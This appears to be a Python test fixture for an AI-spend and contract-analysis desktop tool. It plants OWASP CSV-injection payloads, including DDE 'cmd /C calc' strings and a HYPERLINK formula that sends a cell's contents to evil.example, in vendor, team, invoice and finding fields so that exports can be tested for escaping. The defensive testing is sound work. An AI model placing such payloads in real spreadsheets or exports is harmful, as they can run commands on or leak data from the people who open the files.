"""A hand-made Analysis with realistic numbers (no ingest, no build_analysis), and the OWASP
CSV-injection payloads planted in every kind of text that comes from data."""

from __future__ import annotations

from datetime import date, timedelta
from decimal import Decimal as D

import numpy as np
import pandas as pd

from desktop.domain.inputs import Inputs
from desktop.domain.results import (
    Analysis,
    AnomalyResult,
    BudgetResult,
    ChargebackLine,
    ContractResult,
    Finding,
    ImportIssue,
    ImportReport,
    InvoiceFlag,
    InvoiceResult,
    PeriodResult,
    RenewalRow,
    RenewalScenarioResult,
    WorkloadShiftCandidate,
)
from desktop.domain.settings import Settings

AS_OF = date(2026, 11, 15)

# OWASP "CSV Injection" payloads and friends: each must stay text in the brief
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bSUM(1)",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(1)",  # full-width @
    "\u3000=1+1",  # ideographic space, then =
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#VALUE!",
    "#NAME?",
    "#NULL!",
    "#NUM!",
    "=1+1",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
)


def _period(start, end, commitment, consumed, expected, projected, *, carry_in="0.00", shortfall="0.00",
            carry_out="0.00", penalty="0.00", overage="0.00", premium="0.00", status="current",
            band=None, days=0, elapsed=0):
    c, e = D(consumed), D(expected)
    return PeriodResult(
        period_start=start, period_end=end, commitment=D(commitment), carry_in=D(carry_in),
        consumed=c, expected=e, pacing_ratio=(float(c / e) if e else None), projected=D(projected),
        shortfall=D(shortfall), carry_out=D(carry_out), shortfall_penalty=D(penalty),
        overage=D(overage), overage_premium=D(premium), days=days, elapsed_days=elapsed,
        status=status, band=band,
    )


def usage_frame() -> pd.DataFrame:
    """Daily eligible usage of the two contracts plus one row of non-eligible spend."""
    rows = []
    d = date(2026, 7, 1)
    i = 0
    while d <= AS_OF:
        rows.append((d, "OpenAI", 3_000_000_000 + (i % 7) * 100_000_000, "OAI-2026", PAYLOADS[i % len(PAYLOADS)]))
        rows.append((d, "Anthropic", 1_500_000_000, "ANT-2026", "search"))
        d += timedelta(days=1)
        i += 1
    rows.append((AS_OF, "OpenAI", 12_345_678, None, "=1+2"))
    n = len(rows)
    return pd.DataFrame({
        "date": pd.to_datetime([r[0] for r in rows]),
        "vendor": pd.array([r[1] for r in rows], dtype="string"),
        "cost": np.array([r[2] for r in rows], dtype=np.int64),
        "currency": pd.array(["USD"] * n, dtype="string"),
        "model": pd.array(["gpt-4o" if r[1] == "OpenAI" else "claude-3-5-sonnet" for r in rows], dtype="string"),
        "team": pd.array([r[4] for r in rows], dtype="string"),
        "quantity": np.array([1000.0] * (n - 1) + [np.nan]),
        "commit_eligible": np.array([r[3] is not None for r in rows], dtype=bool),
        "contract_id": pd.array([None] * n, dtype="string"),
        "_contract": pd.array([r[3] for r in rows], dtype="string"),
        "_file": pd.array(["usage.csv"] * n, dtype="string"),
        "_row": np.arange(2, n + 2, dtype=np.int64),
    })


def contracts() -> tuple[ContractResult, ...]:
    oai_periods = (
        _period(date(2026, 1, 1), date(2026, 6, 30), "360000.00", "402118.37", "360000.00", "402118.37",
                overage="42118.37", premium="10529.59", status="ended", band="overage_watch", days=181,
                elapsed=181),
        _period(date(2026, 7, 1), date(2026, 12, 31), "400000.00", "438212.50", "298913.04", "586412.50",
                overage="186412.50", premium="46603.13", band="overage_risk", days=184, elapsed=138),
    )
    oai = ContractResult(
        contract_id="OAI-2026", vendor="OpenAI", term_start=date(2026, 1, 1), term_end=date(2026, 12, 31),
        commitment=D("760000.00"), consumed_to_date=D("840330.87"), expected_to_date=D("658913.04"),
        pacing_ratio=840330.87 / 658913.04, band="overage_risk", run_rate=D("3200.00"),
        required_run_rate=D("0.00"), projected_consumption=D("988530.87"), shortfall_exposure=D("0.00"),
        overage=D("228530.87"), overage_premium=D("57132.72"), periods=oai_periods,
        escalation_to="Dana Whitfield (VP Finance)", owner="Priya Raman", escalation_owner="Dana Whitfield (VP Finance)",
        clause="=HYPERLINK(\"http://evil.example\",\"MSA §4.2\")", smoothed_run_rate=D("3150.25"), days_left=46,
    )
    ant_periods = (
        _period(date(2026, 3, 1), date(2027, 2, 28), "690000.00", "390000.00", "488054.79", "459000.00",
                shortfall="231000.00", penalty="231000.00", band="shortfall_risk", days=365, elapsed=260),
    )
    ant = ContractResult(
        contract_id="ANT-2026", vendor="Anthropic", term_start=date(2026, 3, 1), term_end=date(2027, 2, 28),
        commitment=D("690000.00"), consumed_to_date=D("390000.00"), expected_to_date=D("488054.79"),
        pacing_ratio=390000.0 / 488054.79, band="shortfall_risk", run_rate=D("1500.00"),
        required_run_rate=D("2857.14"), projected_consumption=D("459000.00"), shortfall_exposure=D("231000.00"),
        overage=D("0.00"), overage_premium=D("0.00"), periods=ant_periods,
        escalation_to="@Marcus Oyelaran", owner="-Procurement", escalation_owner="@Marcus Oyelaran",
        clause=None, smoothed_run_rate=None, days_left=105,
    )
    return (ant, oai)


def invoices() -> tuple[InvoiceResult, ...]:
    return (
        InvoiceResult(
            invoice_id="ANT-2026-10", vendor="Anthropic", period_start=date(2026, 10, 1),
            period_end=date(2026, 10, 31), invoiced=D("46500.00"), expected=D("46500.00"),
            variance=D("0.00"), variance_pct=0.0, status="within_tolerance", tax=D("0.00"),
            premium_leakage=D("0.00"), flags=(), invoice_date=date(2026, 11, 3), contract_id="ANT-2026",
        ),
        InvoiceResult(
            invoice_id="=OAI-2026-10", vendor="OpenAI", period_start=date(2026, 10, 1),
            period_end=date(2026, 10, 31), invoiced=D("125803.29"), expected=D("102100.00"),
            variance=D("23703.29"), variance_pct=23703.29 / 102100.00, status="overbilled", tax=D("8123.40"),
            premium_leakage=D("25718.79"),
            flags=(
                InvoiceFlag(line=199, flag="duplicate_line", leakage=D("23703.29"), owner="Priya Raman",
                            file="invoices.csv", description="+gpt-4o output tokens", amount=D("23703.29"),
                            detail="same as line 198"),
                InvoiceFlag(line=225, flag="premium_rate", leakage=D("2015.50"), owner="#N/A",
                            file="invoices.csv", description="@gpt-4o input", amount=D("22094.46"),
                            detail="unit price 0.01403 above contracted 0.01275"),
            ),
            invoice_date=date(2026, 11, 3), contract_id=None, period_inferred=True,
            notes=("billing period taken as the month before the invoice date",),
        ),
    )


def budgets() -> tuple[BudgetResult, ...]:
    return (
        BudgetResult(allocation="Search AI", month="2026-11", budget=D("40000.00"), actual=D("26500.25"),
                     utilization=26500.25 / 40000, forecast=D("50125.50"), variance=D("10125.50"),
                     variance_pct=10125.50 / 40000, severity="high", alert_tier="warning", dimension="team",
                     value="search", run_rate=D("1575.35"), response="root-cause analysis due within 24 h",
                     rca_due=date(2026, 11, 16), owner="Elena Park", containment_owner="=Jon Okafor",
                     escalation_owner="Ravi Menon", monitoring=True),
        BudgetResult(allocation="Support AI", month="2026-11", budget=D("30000.00"), actual=D("9000.00"),
                     utilization=0.3, forecast=D("18000.00"), variance=D("-12000.00"), variance_pct=-0.4,
                     severity="under", alert_tier="none", dimension="team", value="support",
                     run_rate=D("600.00"), response="next weekly review", owner="Grace Liu"),
    )


def anomalies() -> tuple[AnomalyResult, ...]:
    return (
        AnomalyResult(dimension="team", value="=cmd|' /C calc'!A0", date=date(2026, 10, 28), spend=D("3661.81"),
                      mean=D("1730.64"), std=D("523.28"), z=3.69),
        AnomalyResult(dimension="model", value="claude-3-5-haiku", date=date(2026, 10, 28), spend=D("1965.11"),
                      mean=D("243.87"), std=D("79.11"), z=21.76),
    )


def renewal() -> tuple[RenewalScenarioResult, ...]:
    rows = (
        RenewalRow(D("400000.00"), 8.0, D("520433.21"), D("59566.79"), 0.0, D("0.00"), D("5000.00")),
        RenewalRow(D("500000.00"), 10.0, D("512000.00"), D("68000.00"), 0.02, D("350.00"), D("1200.00"),
                   least_cost=True, safe_max=True),
        RenewalRow(D("600000.00"), 12.5, D("601000.00"), D("-21000.00"), 0.97, D("90000.00"), D("0.00")),
    )
    return (
        RenewalScenarioResult(
            name="OpenAI renewal: expected", vendor="OpenAI", baseline_monthly=D("45000.00"), growth=0.02,
            growth_sd=0.02, term_months=12, rows=rows, on_demand_cost=D("580000.00"),
            recommended_least_cost=D("500000.00"), recommended_safe=D("500000.00"),
            overage_multiplier=1.25, shortfall_penalty_pct=100.0,
        ),
        RenewalScenarioResult(
            name="Anthropic renewal: expected", vendor="Anthropic", baseline_monthly=D("33333.33"),
            growth=0.0, growth_sd=0.01, term_months=12, rows=rows[:2], on_demand_cost=D("400000.00"),
            recommended_least_cost=D("400000.00"), recommended_safe=None,
            overage_multiplier=1.5, shortfall_penalty_pct=80.0,
        ),
    )


def findings() -> tuple[Finding, ...]:
    return (
        Finding(key="budget:Search AI:2026-11", kind="budget", severity="high",
                title="Budget 'Search AI' Nov 2026 forecast 25% over", owner="Elena Park",
                due=date(2026, 11, 16), detail="root-cause analysis due within 24 h",
                at_stake=D("10100.00"), stake_kind="budget_overrun"),
        Finding(key="contract:OAI-2026:overage", kind="contract", severity="high",
                title="=OAI-2026 pacing at 128%", owner="Dana Whitfield (VP Finance)", due=date(2026, 11, 22),
                at_stake=D("57132.72"), stake_kind="overage_premium"),
        Finding(key="anomaly:team:x:2026-10-28", kind="anomaly", severity="medium",
                title="Spend spike", owner=None, due=date(2026, 11, 10),
                at_stake=D("800.00"), stake_kind="excess_spend"),
    )


def imports() -> tuple[ImportReport, ...]:
    return (
        ImportReport(file="usage.csv", kind="usage", format="canonical-csv", rows_read=280, rows_imported=278,
                     rows_rejected=2,
                     errors=(ImportIssue(row=17, column="cost", message="not an amount", value="=1+1"),
                             ImportIssue(row=40, column="date", message="not a date", value="#REF!")),
                     format_reason="canonical column names", encoding="utf-8", delimiter=","),
        ImportReport(file="invoices.csv", kind="invoices", format="canonical-csv", rows_read=12, rows_imported=12,
                     rows_rejected=0, delimiter=";", warnings=("+2 duplicate lines flagged",)),
    )


def chargeback() -> tuple[ChargebackLine, ...]:
    return (
        ChargebackLine(month="2026-10", gl_account="6100-AI", cost_center="CC-SEARCH", amount=D("46500.00"),
                       invoice_ids=("ANT-2026-10",)),
        ChargebackLine(month="2026-10", gl_account="6100-AI", cost_center="unallocated", amount=D("102100.00"),
                       invoice_ids=("=OAI-2026-10",)),
    )


def workload_shift() -> tuple[WorkloadShiftCandidate, ...]:
    return (
        WorkloadShiftCandidate(contract_id="ANT-2026", workload="answer-synthesis", basis="workload",
                               vendor="OpenAI", run_rate=D("1202.21"), days_left=105,
                               movable_spend=D("126232.05"), covers=D("126232.05"), covers_pct=126232.05 / 231000),
    )


def analysis(**overrides) -> Analysis:
    commitments = pd.DataFrame({
        "contract_id": pd.array(["OAI-2026", "ANT-2026"], dtype="string"),
        "vendor": pd.array(["OpenAI", "Anthropic"], dtype="string"),
        "period_start": pd.to_datetime(["2026-07-01", "2026-03-01"]),
        "period_end": pd.to_datetime(["2026-12-31", "2027-02-28"]),
        "overage_multiplier": [1.25, 1.5],
        "shortfall_penalty_pct": [100.0, 80.0],
    })
    fields = dict(
        as_of=AS_OF, currency="USD", contracts=contracts(), invoices=invoices(), budgets=budgets(),
        anomalies=anomalies(), imports=imports(), workload_shift=workload_shift(), chargeback=chargeback(),
        renewal=renewal(), findings=findings(),
        warnings=("3 usage rows in EUR had no FX rate and were left out", "=SUM(A1:A9)"),
        settings=Settings(), usage=usage_frame(), inputs=Inputs().with_table("commitments", commitments),
    )
    fields.update(overrides)
    return Analysis(**fields)


def empty_analysis() -> Analysis:
    return Analysis(as_of=AS_OF, currency="USD", contracts=(), invoices=(), budgets=(), anomalies=(),
                    imports=(), settings=Settings())
